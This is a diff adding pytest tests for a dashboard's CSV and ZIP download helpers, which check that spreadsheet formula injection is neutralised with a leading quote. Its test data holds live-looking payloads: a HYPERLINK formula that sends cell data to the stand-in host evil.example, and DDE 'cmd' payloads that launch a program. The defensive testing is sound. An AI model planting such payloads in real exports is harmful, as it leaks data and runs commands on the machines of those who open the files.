@@ -1,0 +1,63 @@
+import io
+import zipfile
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dashboard.app.downloads import csv_bytes, neutralised_text, spreadsheet_safe, zip_bytes
+
+HOSTILE = [
+    ('=HYPERLINK("http://evil.example/?d="&A1,"click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"click")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+]
+HARMLESS = ["Japan", "", " =not at the start", "U.S.-Japan", "'quoted'", "2024-07-29", "<script>alert(1)</script>"]
+
+
+@pytest.mark.parametrize(("value", "expected"), HOSTILE)
+def test_formula_starts_are_prefixed_with_a_quote(value, expected):
+    assert neutralised_text(value) == expected
+
+
+@pytest.mark.parametrize("value", HARMLESS)
+def test_other_text_is_left_as_it_is(value):
+    assert neutralised_text(value) == value
+
+
+def test_csv_cells_cannot_run_and_numbers_stay_numbers():
+    frame = pd.DataFrame(
+        {
+            "title": pd.array([value for value, _ in HOSTILE], dtype="string"),
+            "score": pd.array([-0.5, 1.0, -2.0, 0.0, None, 3.5], dtype="Float64"),
+            "count": pd.array([-1, 2, 3, 4, 5, 6], dtype="Int64"),
+        }
+    )
+    read_back = pd.read_csv(io.BytesIO(csv_bytes(frame)), keep_default_na=False)
+    assert list(read_back["title"]) == [expected for _, expected in HOSTILE]
+    assert read_back["count"].tolist() == [-1, 2, 3, 4, 5, 6]
+    # Negative numbers are written bare (no quote), an empty score as an empty cell.
+    assert read_back["score"].tolist() == ["-0.5", "1.0", "-2.0", "0.0", "", "3.5"]
+
+
+def test_spreadsheet_safe_leaves_the_input_frame_unchanged():
+    frame = pd.DataFrame({"title": ["=1+1"]})
+    spreadsheet_safe(frame)
+    assert frame.at[0, "title"] == "=1+1"
+
+
+@given(st.text())
+def test_no_text_cell_of_a_download_starts_a_formula(value):
+    frame = pd.DataFrame({"text": pd.array([value], dtype="string")})
+    assert not spreadsheet_safe(frame).at[0, "text"].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_zip_holds_each_table_as_a_safe_csv():
+    frames = {"articles": pd.DataFrame({"title": ["=HYPERLINK(1)"]}), "quotes": pd.DataFrame({"quote": ["fine"]})}
+    with zipfile.ZipFile(io.BytesIO(zip_bytes(frames))) as archive:
+        assert archive.namelist() == ["articles.csv", "quotes.csv"]
+        assert archive.read("articles.csv").decode("utf-8-sig") == "title\r\n'=HYPERLINK(1)\r\n"
